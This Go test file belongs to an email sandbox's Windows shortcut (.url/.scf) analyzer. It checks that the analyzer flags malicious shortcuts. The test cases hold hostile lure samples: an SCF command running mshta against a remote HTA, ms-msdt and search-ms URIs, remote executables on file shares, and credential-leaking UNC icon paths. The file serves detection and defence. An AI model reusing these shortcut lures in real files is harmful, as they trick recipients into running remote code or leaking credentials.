package urlfile

import (
	"context"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/airlockmail/airlock/sandboxd/analyzer"
	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/testkit"
	"github.com/airlockmail/airlock/verdict"
)

func FuzzURLFile(f *testing.F) {
	testkit.Seeds(f, New())
	f.Add([]byte("[InternetShortcut]\r\nURL=file://h/s/a.exe\r\nIconFile=\\\\h\\i.ico\r\n"))
	f.Add([]byte("[Shell]\nCommand=cmd /c calc\n"))
	f.Fuzz(func(t *testing.T, data []byte) { testkit.Check(t, New(), data) })
}

func analyze(t *testing.T, ext string, data []byte) analyzer.Result {
	t.Helper()
	a := New()
	f := &analyzer.File{Data: data, Ext: ext}
	if !a.Accepts(f) {
		t.Fatalf("%q not accepted", data)
	}
	r, err := a.Analyze(context.Background(), f)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func worst(r analyzer.Result) verdict.Severity {
	m := verdict.Severity(-1)
	for _, f := range r.Findings {
		m = max(m, f.Severity)
	}
	return m
}

func TestURLFile(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		rule       string
		min        verdict.Severity
	}{
		{"search-ms", "[InternetShortcut]\nURL=search-ms:crumb=location:\\\\198.51.100.1@80\\DavWWWRoot\\x", "risky-uri-search-ms", verdict.High},
		{"file share exe", "[InternetShortcut]\nURL=file://198.51.100.1/s/a.exe", "remote-executable", verdict.Critical},
		{"file 4 slashes", "[InternetShortcut]\nURL=file:////198.51.100.1/s/a.js", "remote-executable", verdict.Critical},
		{"unc doc", "[InternetShortcut]\nURL=\\\\198.51.100.1\\s\\a.pdf", "risky-uri-unc", verdict.High},
		{"msdt", "[InternetShortcut]\nURL=ms-msdt:/id PCWDiagnostic", "risky-uri-ms-msdt", verdict.Critical},
		{"second url wins nothing", "[InternetShortcut]\nURL=https://example.org/\nURL=ms-msdt:/id x", "risky-uri-ms-msdt", verdict.Critical},
		{"remote icon", "[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\198.51.100.1\\i.ico", "remote-icon", verdict.High},
		{"local program", "[InternetShortcut]\nURL=C:\\Windows\\System32\\cmd.exe", "url-local-program", verdict.High},
		{"local file url exe", "[InternetShortcut]\nURL=file:///C:/Users/Public/a.hta", "risky-uri-file", verdict.High},
		{"web exe", "[InternetShortcut]\nURL=https://example.org/setup.exe?x=1", "url-executable", verdict.Medium},
		{"scf command", "[Shell]\nCommand=cmd /c mshta http://198.51.100.1/a.hta", "lolbin-mshta-remote", verdict.Critical},
		{"key case and spaces", "[internetshortcut]\n  url =  file://198.51.100.1/s/a.lnk ", "remote-executable", verdict.Critical},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, ".url", []byte(tc.text))
			for _, f := range r.Findings {
				if f.Evidence == "" {
					t.Errorf("finding %s without evidence", f.Rule)
				}
				if f.Rule == tc.rule && f.Severity >= tc.min {
					return
				}
			}
			t.Errorf("want %s >= %s, got %+v", tc.rule, tc.min, r.Findings)
		})
	}
}

func TestURLFileBenign(t *testing.T) {
	for _, text := range []string{
		"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\nIconIndex=3",
		"[InternetShortcut]\nURL=mailto:help@example.org",
		"[InternetShortcut]\nURL=ms-settings:display",
		"[InternetShortcut]\nURL=https://files.example.org/report.pdf\nWorkingDirectory=C:\\Users\\Public",
		"[Shell]\nCommand=2\nIconFile=explorer.exe,3\n[Taskbar]\nCommand=ToggleDesktop",
	} {
		r := analyze(t, ".url", []byte(text))
		if worst(r) >= verdict.Low || r.Unscannable != "" {
			t.Errorf("%q: want nothing, got %+v %q", text, r.Findings, r.Unscannable)
		}
	}
}

// A shortcut with no target is not something Windows opens: it fails
// closed.
func TestURLFileNoTarget(t *testing.T) {
	r := analyze(t, ".url", []byte("just some text\nwith no sections"))
	if r.Unscannable == "" {
		t.Fatalf("want unscannable, got %+v", r)
	}
}

// Windows writes some shortcuts as UTF-16; the target is read all the same.
func TestURLFileUTF16(t *testing.T) {
	u := utf16.Encode([]rune("[InternetShortcut]\r\nURL=file://198.51.100.1/s/a.exe\r\n"))
	b := []byte{0xff, 0xfe}
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	r := analyze(t, "", b)
	if worst(r) < verdict.Critical {
		t.Fatalf("UTF-16 .url: %+v", r.Findings)
	}
}

func TestParseKeepsDuplicates(t *testing.T) {
	e := Parse("[A]\nk=1\nK = 2\n;c=3\n[B]\nk=4")
	var got []string
	for _, x := range e {
		got = append(got, x.Section+"."+x.Key+"="+x.Value)
	}
	if strings.Join(got, ",") != "a.k=1,a.k=2,b.k=4" {
		t.Fatalf("got %v", got)
	}
}
